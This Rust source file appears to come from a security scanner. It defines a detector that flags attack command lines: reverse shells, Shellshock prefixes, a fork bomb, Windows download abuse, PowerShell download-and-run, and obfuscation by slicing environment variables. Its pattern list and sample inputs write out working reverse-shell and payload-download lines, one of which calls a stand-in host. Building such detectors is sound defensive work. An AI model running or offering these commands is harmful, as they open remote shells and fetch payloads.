//! Shells over a connection, and other command lines that only an attack has.

use std::sync::LazyLock;

use memchr::memmem;

use crate::detect::{Detector, Examples, Found, Signal, Strength, Value, literal_set::LiteralSet};

/// Command lines that say what they are for wherever they stand: reverse shells, Shellshock (CVE-2014-6271),
/// downloads by programs of Windows that are not made for it (LOLBAS), options that run a command (GTFOBins).
pub(super) struct ShellPhrase;

/// A phrase, what it says, and what must follow it somewhere.
struct Phrase {
    text: &'static str,
    then: &'static str,
    what: &'static str,
    strength: Strength,
}

const fn phrase(text: &'static str, then: &'static str, what: &'static str, strength: Strength) -> Phrase {
    Phrase { text, then, what, strength }
}

static PHRASES: [Phrase; 46] = [
    phrase("() { :", "}", "function that runs on import (Shellshock)", Strength::Certain),
    phrase("() { _;", "}", "function that runs on import (Shellshock)", Strength::Certain),
    phrase("() {:;", "}", "function that runs on import (Shellshock)", Strength::Certain),
    phrase("() { ignored;", "}", "function that runs on import (Shellshock)", Strength::Certain),
    phrase(":(){", ":|:", "fork bomb", Strength::Strong),
    phrase("/dev/tcp/", "", "connection made by a shell", Strength::Medium),
    phrase("/dev/udp/", "", "connection made by a shell", Strength::Medium),
    phrase(">& /dev/tcp/", "", "shell over a connection", Strength::Certain),
    phrase("<>/dev/tcp/", "", "shell over a connection", Strength::Certain),
    phrase("bash -i", ">&", "shell over a connection", Strength::Certain),
    phrase("sh -i", ">&", "shell over a connection", Strength::Strong),
    phrase("nc ", " -e /bin/", "shell over a connection", Strength::Certain),
    phrase("nc -e", "/bin/", "shell over a connection", Strength::Certain),
    phrase("nc.traditional", "-e", "shell over a connection", Strength::Certain),
    phrase("mkfifo /tmp/", "nc ", "shell over a connection", Strength::Certain),
    phrase("socat ", "exec:", "shell over a connection", Strength::Strong),
    phrase("ruby -rsocket", "", "shell over a connection", Strength::Strong),
    phrase("perl -e", "use Socket", "shell over a connection", Strength::Strong),
    phrase("python -c", "import socket", "shell over a connection", Strength::Strong),
    phrase("python3 -c", "import socket", "shell over a connection", Strength::Strong),
    phrase("php -r", "fsockopen", "shell over a connection", Strength::Strong),
    phrase("certutil -urlcache", "http", "download by a program of Windows", Strength::Strong),
    phrase("certutil.exe -urlcache", "http", "download by a program of Windows", Strength::Strong),
    phrase("bitsadmin /transfer", "http", "download by a program of Windows", Strength::Strong),
    phrase("mshta http", "", "download by a program of Windows", Strength::Strong),
    phrase("mshta javascript:", "", "script run by a program of Windows", Strength::Certain),
    phrase("regsvr32 /s /n", "/i:http", "download by a program of Windows", Strength::Certain),
    phrase("iex (new-object net.webclient)", "", "PowerShell that runs what it downloads", Strength::Certain),
    phrase("iex(new-object net.webclient)", "", "PowerShell that runs what it downloads", Strength::Certain),
    phrase("powershell -enc", "", "PowerShell of encoded text", Strength::Strong),
    phrase("powershell.exe -enc", "", "PowerShell of encoded text", Strength::Strong),
    phrase("--checkpoint-action=exec=", "", "option that runs a command", Strength::Strong),
    phrase("-oproxycommand=", "", "option that runs a command", Strength::Strong),
    phrase("-wrapper sh,", "", "compiler that runs a command", Strength::Strong),
    phrase("--gpu-launcher=", "", "option that runs a command", Strength::Strong),
    phrase("sh</dev/tcp/", "", "shell over a connection", Strength::Certain),
    phrase("sh </dev/tcp/", "", "shell over a connection", Strength::Certain),
    phrase("if [ $(", "then sleep", "answer told by the time it takes", Strength::Strong),
    // One character of a variable that every system has stands for a slash or a blank.
    phrase("${home:0:1}", "", "character cut out of a variable", Strength::Strong),
    phrase("${path:0:1}", "", "character cut out of a variable", Strength::Strong),
    phrase("${pwd:0:1}", "", "character cut out of a variable", Strength::Strong),
    phrase("${ls_colors:", ":1}", "character cut out of a variable", Strength::Strong),
    phrase("%programfiles:~", "%", "character cut out of a variable", Strength::Strong),
    phrase("%commonprogramfiles:~", "%", "character cut out of a variable", Strength::Strong),
    phrase("%homepath:~", "%", "character cut out of a variable", Strength::Strong),
    phrase("%comspec:~", "%", "character cut out of a variable", Strength::Strong),
];

const TEXTS: [&str; PHRASES.len()] = {
    let mut texts = [""; PHRASES.len()];
    let mut nth = 0;
    while nth < texts.len() {
        texts[nth] = PHRASES[nth].text;
        nth += 1;
    }
    texts
};

static PREPARED: LazyLock<LiteralSet> = LazyLock::new(|| LiteralSet::new(TEXTS));

impl Detector for ShellPhrase {
    fn signal(&self) -> Signal {
        Signal::CmdExe
    }

    fn summary(&self) -> &'static str {
        "a shell over a connection, or another command line that only an attack has"
    }

    fn examples(&self) -> Examples {
        Examples {
            found: &[
                "() { :;}; /bin/sh -c id",
                "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
                "nc -e /bin/sh 192.0.2.1 4444",
                "cat ${HOME:0:1}etc${HOME:0:1}hosts",
                "ping%PROGRAMFILES:~10,-5%192.0.2.1",
                "hello, powershell -enc SQBFAFgA",
                "certutil -urlcache -f http://evil.example/a.exe a.exe",
            ],
            passed: &[
                "how do I test /dev/tcp/host/port?",
                "first=${name:0:1}",
                "nc -l 8080 waits for a connection",
                "python -c 'print(1)'",
                "bash -i starts an interactive shell",
                "const f = () => { return 1; }",
            ],
        }
    }

    fn literals(&self) -> &'static [&'static str] {
        &TEXTS
    }

    fn examine(&self, value: &Value<'_>, found: &mut Found) {
        // What must follow is looked for once each: behind the first of its phrase.
        let mut seen = [false; PHRASES.len()];
        for (nth, at) in PREPARED.find(value.bytes) {
            let (Some(phrase), Some(seen)) = (PHRASES.get(nth), seen.get_mut(nth)) else { continue };
            if std::mem::replace(seen, true) {
                continue;
            }
            let rest = value.bytes.get(at.end..).unwrap_or_default();
            if phrase.then.is_empty() || memmem::find(rest, phrase.then.as_bytes()).is_some() {
                found.push(phrase.what, phrase.strength, at);
            }
        }
    }
}
